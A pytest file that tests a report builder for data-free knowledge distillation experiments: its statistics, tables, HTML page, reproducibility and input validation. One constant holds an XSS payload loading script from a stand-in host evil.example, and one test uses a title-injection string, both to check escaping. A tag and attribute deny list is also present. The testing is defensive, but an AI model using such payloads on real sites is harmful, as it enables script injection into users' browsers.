"""The report as its readers and their programs see it."""

import csv
import re

import numpy as np
import pytest

from pipeline.core.errors import DataError, ShardError
from pipeline.grid import Matrix
from pipeline.report import build_report
from pipeline.report.read import read_material
from tests.support import Page, summary_of

HOSTILE = '"><script src=http://evil.example/x.js></script><img src=x onerror=alert(1)>'


def names_of(run) -> list[str]:
    return [row.name for row in run.matrix.rows]


def results_of(run) -> list[str]:
    return [name for name in run.matrix.methods if name != "noise"]


def test_means_and_sample_standard_deviations_equal_numpys(run, tmp_path):
    summary = summary_of(run.build(tmp_path / "out"))
    for method in names_of(run):
        for student in run.matrix.students:
            cells = [run.cells[f"{method}-{student}-{seed}"] for seed in (0, 1, 2)]
            found = summary[method][student]
            for name, field in (("accuracy", "accuracy"), ("agreement", "agreement"), ("kl", "kl_to_teacher")):
                values = [getattr(cell, field) for cell in cells]
                assert found[f"{name}_mean"] == pytest.approx(np.mean(values), rel=1e-12)
                assert found[f"{name}_std"] == pytest.approx(np.std(values, ddof=1), rel=1e-12)
            assert found["n"] == 3
    assert summary["teacher"]["accuracy"] == 0.975


def test_one_seed_shows_no_standard_deviation(run, tmp_path):
    run.matrix = run.matrix.model_copy(update={"seeds": (1,)})
    out = run.build(tmp_path / "out")
    assert not [key for key in summary_of(out)["zskd"]["half"] if key.endswith("_std")]
    assert "±" not in (out / "report.md").read_text().split("## Results")[1].split("| --- |")[1]
    assert "one seed, so no spread" in Page(out / "index.html").text


def test_the_markdown_table_holds_the_numbers_of_the_summary(run, tmp_path):
    out = run.build(tmp_path / "out")
    summary = summary_of(out)
    table = (out / "report.md").read_text().split("## Results")[1].split("## ")[0]
    lines = [
        [cell.strip() for cell in line.strip("| ").split("|")] for line in table.splitlines() if line.startswith("| ")
    ]
    rows = {(line[1], line[0]): line for line in lines[2:] if line[0] != "teacher"}
    assert set(rows) == {(method, student) for method in names_of(run) for student in run.matrix.students}
    for (method, student), line in rows.items():
        numbers = summary[method][student]
        assert line[3] == f"{numbers['accuracy_mean'] * 100:.2f} ± {numbers['accuracy_std'] * 100:.2f}"
        assert line[4] == f"{numbers['agreement_mean'] * 100:.2f} ± {numbers['agreement_std'] * 100:.2f}"
        assert line[5] == f"{numbers['kl_mean']:.3f} ± {numbers['kl_std']:.3f}"
        assert line[6] == "3"
    assert lines[-1][:4] == ["teacher", "lenet5", "not data-free", "97.50"]


def test_the_page_holds_the_same_numbers(run, tmp_path):
    out = run.build(tmp_path / "out")
    text = Page(out / "index.html").text
    for student in summary_of(out)["zskd"].values():
        assert f"{student['accuracy_mean'] * 100:.2f} ± {student['accuracy_std'] * 100:.2f}" in text


def test_rows_with_real_data_are_marked_and_the_control_is_named(run, tmp_path):
    table = (run.build(tmp_path / "out") / "report.md").read_text()
    assert re.search(r"\| half \| real_labels \| not data-free \|", table)
    assert re.search(r"\| half \| noise \| control \|", table)
    assert re.search(r"\| half \| zskd \|  \|", table)


def test_students_that_were_finished_on_real_images_are_marked_and_take_their_dataset_s_pictures(run, tmp_path):
    before = run.build(tmp_path / "before")
    for seed in run.matrix.seeds:
        run.add_cell("zskd_few_shot", "half", seed)
        run.change(f"zskd_few_shot-half-{seed}", accuracy=1.0)
    run.matrix = run.matrix.model_copy(update={"few_shot": ("zskd",)})
    out = run.build(tmp_path / "out")
    report = (out / "report.md").read_text()
    assert re.search(r"\| half \| zskd_few_shot \| not data-free \|", report)
    page = Page(out / "index.html").text
    assert "zskd_few_shot not data-free then a few real images of each class" in page
    for table in ("Class by class", "Each student's training", "Every seed"):
        part = page.split(table)[1]
        assert "zskd_few_shot not data-free" in part[: part.index("Make it again")]
    for table in ("Every seed", "Accuracy of each class"):
        named = report.split(f"## {table}")[1].split("## ")[0].count("zskd_few_shot")
        assert report.split(f"## {table}")[1].split("## ")[0].count("not data-free") >= named > 0
    assert report.split("**")[1] == (before / "report.md").read_text().split("**")[1], "no data-free result"
    assert {path.name for path in (out / "pictures").iterdir()} == {
        path.name for path in (before / "pictures").iterdir()
    }


def test_the_headline_names_the_best_data_free_student(run, tmp_path):
    out = run.build(tmp_path / "out")
    summary = summary_of(out)
    candidates = [(summary[m][s]["accuracy_mean"], s, m) for m in results_of(run) for s in run.matrix.students]
    best, student, method = max(candidates)
    lead = (out / "report.md").read_text().split("**")[1]
    assert f"{best * 100:.2f}" in lead
    assert student in lead
    body = (out / "report.md").read_text().split("## Results")[0]
    assert f"trained on {method}," in body
    gap = (0.975 - best) * 100
    assert f"{abs(gap):.2f} points {'below' if gap > 0 else 'above'} its teacher" in body
    assert "best of 4 data-free combinations" in body


def test_the_best_student_is_compared_with_itself_finished_on_real_images(run, tmp_path):
    summary = summary_of(run.build(tmp_path / "before"))
    means = {(summary[m][s]["accuracy_mean"], m, s) for m in results_of(run) for s in run.matrix.students}
    _, method, student = max(means)
    for seed in run.matrix.seeds:
        run.add_cell(f"{method}_few_shot", student, seed)
    run.matrix = run.matrix.model_copy(update={"few_shot": (method,)})
    out = run.build(tmp_path / "out")
    finished = summary_of(out)[f"{method}_few_shot"][student]
    shown = f"{finished['accuracy_mean'] * 100:.2f} ± {finished['accuracy_std'] * 100:.2f}"
    sentence = f"Finished on a few real images of each class, no longer data-free, it reaches {shown}"
    assert sentence in Page(out / "index.html").text


def test_stale_metrics_are_ignored(run, tmp_path):
    run.build(tmp_path / "before")
    run.add_cell("zskd", "half", 99)
    run.add_cell("dropped", "half", 0)
    (run.data / "metrics" / "zskd-half-7.json").write_text("not JSON at all")
    run.build(tmp_path / "after")
    assert (tmp_path / "before" / "summary.json").read_bytes() == (tmp_path / "after" / "summary.json").read_bytes()
    assert (tmp_path / "before" / "index.html").read_bytes() == (tmp_path / "after" / "index.html").read_bytes()


def test_a_measured_proxy_is_read_by_its_method_and_is_no_row_of_the_results(run, tmp_path):
    before = (run.build(tmp_path / "before") / "results.csv").read_bytes()
    run.add_proxy("zskd", accuracy=0.625)
    run.matrix = run.matrix.model_copy(update={"proxies": ("zskd", "impressions")})
    material = read_material(run.inputs())
    assert {method: metrics.accuracy for method, metrics in material.proxies.items()} == {"zskd": 0.625}
    assert material.missing == ("result of impressions-proxy",)
    assert not any(metrics.online for metrics in material.cells)
    assert (run.build(tmp_path / "after") / "results.csv").read_bytes() == before


def test_a_missing_cell_is_named_and_the_others_are_still_shown(run, tmp_path):
    (run.data / "metrics" / "zskd-half-1.json").unlink()
    (run.data / "history" / "zskd-tiny-2.csv").unlink()
    out = run.build(tmp_path / "out")
    text = Page(out / "index.html").text
    assert "result of zskd-half-1" in text
    assert "training curve of zskd-tiny-2" in text
    assert "- result of zskd-half-1" in (out / "report.md").read_text()
    assert summary_of(out)["zskd"]["half"]["n"] == 2
    assert summary_of(out)["missing"] == 2


def test_a_report_of_nothing_yet_says_so(run, tmp_path):
    run.matrix = Matrix(methods=("later",), references=(), few_shot=(), students=("half",), seeds=(0,), proxies=())
    out = run.build(tmp_path / "out")
    text = Page(out / "index.html").text
    assert "no data-free result yet" in text
    assert "dataset later" in text


def test_without_real_data_no_accuracy_appears(make_run, tmp_path):
    out = make_run(accuracy=False).build(tmp_path / "out")
    page = Page(out / "index.html").text
    assert "no accuracy can be given" in page
    assert "accuracy, %" not in page.split("Every seed")[0]
    assert not [key for key in summary_of(out)["zskd"]["half"] if key.startswith("accuracy")]
    assert "agreement_mean" in summary_of(out)["zskd"]["half"]


def test_the_page_loads_nothing_from_anywhere(run, tmp_path):
    run.add_proxy("zskd")
    run.walk("zskd-proxy", 0.1, [0.0, 1.0], [0.0, 0.5])
    run.attach("zskd", {"fit.csv": ("history", b"epoch,confidence,loss\n1,0.5,1\n2,0.6,2\n")})
    out = run.build(tmp_path / "out")
    for tag, attributes in Page(out / "index.html").tags:
        assert tag not in {"script", "link", "iframe", "object", "embed", "base", "video", "audio", "source"}
        for name in ("src", "href", "xlink:href", "data", "action", "poster", "srcset", "background"):
            if name in attributes:
                assert attributes[name].startswith("data:image/png;base64,"), (tag, name)
        assert not [name for name in attributes if name.startswith("on")]
        assert "url(" not in (attributes.get("style") or "")
    html = (out / "index.html").read_text()
    assert not re.search(r"@import|url\(|https?://", html)


def test_hostile_names_stay_text(make_run, tmp_path):
    run = make_run(classes=(HOSTILE, "b|c\nd", "\x07*bold* <b>"))
    run.title = "</title><script>alert(2)</script>"
    out = run.build(tmp_path / "out")
    page = Page(out / "index.html")
    assert "script" not in {tag for tag, _ in page.tags}
    assert not [a for _, attributes in page.tags for a in attributes if a.startswith("on")]
    assert all(a["src"].startswith("data:") for tag, a in page.tags if tag == "img")
    assert "</title><script>alert(2)</script>" in page.text
    titles = [attributes["title"] for tag, attributes in page.tags if tag == "th" and "title" in attributes]
    assert HOSTILE in titles
    markdown = (out / "report.md").read_text()
    assert "<script" not in markdown
    table = markdown.split("## Accuracy of each class")[1].split("## ")[0].strip().splitlines()
    assert len(table) == 2 + 3, "a class name must not break its table row"
    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1


def test_two_builds_give_the_same_bytes(run, tmp_path):
    first, second = run.build(tmp_path / "a"), run.build(tmp_path / "b")
    names = sorted(str(path.relative_to(first)) for path in first.rglob("*") if path.is_file())
    assert names == [
        "index.html",
        *(f"pictures/{name}.png" for name in ("impressions", "noise", "real", "zskd")),
        "report.md",
        "results.csv",
        "similarity.png",
        "summary.json",
    ]
    for name in names:
        assert (first / name).read_bytes() == (second / name).read_bytes(), name


def test_results_csv_has_a_line_for_each_cell(run, tmp_path):
    out = run.build(tmp_path / "out")
    with (out / "results.csv").open(newline="") as file:
        lines = {line["cell"]: line for line in csv.DictReader(file)}
    assert set(lines) == set(run.cells)
    assert float(lines["zskd-half-1"]["accuracy"]) == run.cells["zskd-half-1"].accuracy


def test_a_dataset_that_the_teacher_labelled_has_no_intended_class(run, tmp_path):
    text = Page(run.build(tmp_path / "out") / "index.html").text
    assert text.count("8 images; labelled by the teacher") == 1, "noise alone"
    assert text.count("8 images; the teacher names the intended class of 37.5 %") == 2
    assert "8 images; the teacher names the true class of 37.5 %" in text


def test_the_measurements_of_another_cell_are_refused(run, tmp_path):
    real, zskd = (run.data / "metrics" / f"{name}-half-0.json" for name in ("real_labels", "zskd"))
    zskd.write_bytes(real.read_bytes())
    with pytest.raises(DataError, match=r"zskd-half-0\.json: holds the measurements of real_labels-half-0"):
        run.build(tmp_path / "out")


def test_costs_are_shown(run, tmp_path):
    assert "| zskd | 600 | 2 min 0 s | 5 |" in (run.build(tmp_path / "out") / "report.md").read_text()


def test_a_damaged_shard_is_an_error_that_names_it(run, tmp_path):
    shard = run.data / "synthetic" / "zskd" / "train-00000.tar"
    content = bytearray(shard.read_bytes())
    content[700] ^= 1
    shard.write_bytes(content)
    with pytest.raises(ShardError, match=r"train-00000\.tar"):
        run.build(tmp_path / "out")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("metrics/zskd-half-0.json", '{"cell": 1}'),
        ("provenance/students/zskd-half-0.json", '{"seconds": "long", "images": 3}'),
        ("provenance/synthetic/zskd.json", "[]"),
        ("history/zskd-half-0.csv", "loss\n1\n"),
        ("history/zskd-half-0.csv", "epoch,loss\n1,high\n"),
        ("provenance/synthetic/zskd.json", '{"images": 3}'),
    ],
)
def test_an_input_that_is_not_what_it_should_be_is_named(run, tmp_path, name, content):
    (run.data / name).write_text(content)
    with pytest.raises(DataError, match=re.escape(name)):
        run.build(tmp_path / "out")


def test_a_similarity_matrix_of_another_teacher_is_refused(run, tmp_path):
    inputs = run.inputs()
    object.__setattr__(inputs, "similarity", np.eye(5))
    with pytest.raises(DataError, match="teacher has 3 classes"):
        build_report(inputs, tmp_path / "out")


def test_a_teacher_without_a_linear_head_has_a_report_without_the_matrix(run, tmp_path):
    inputs = run.inputs()
    object.__setattr__(inputs, "similarity", None)
    build_report(inputs, tmp_path / "out")
    assert not (tmp_path / "out" / "similarity.png").exists()
    assert 'class="matrix"' not in (tmp_path / "out" / "index.html").read_text()
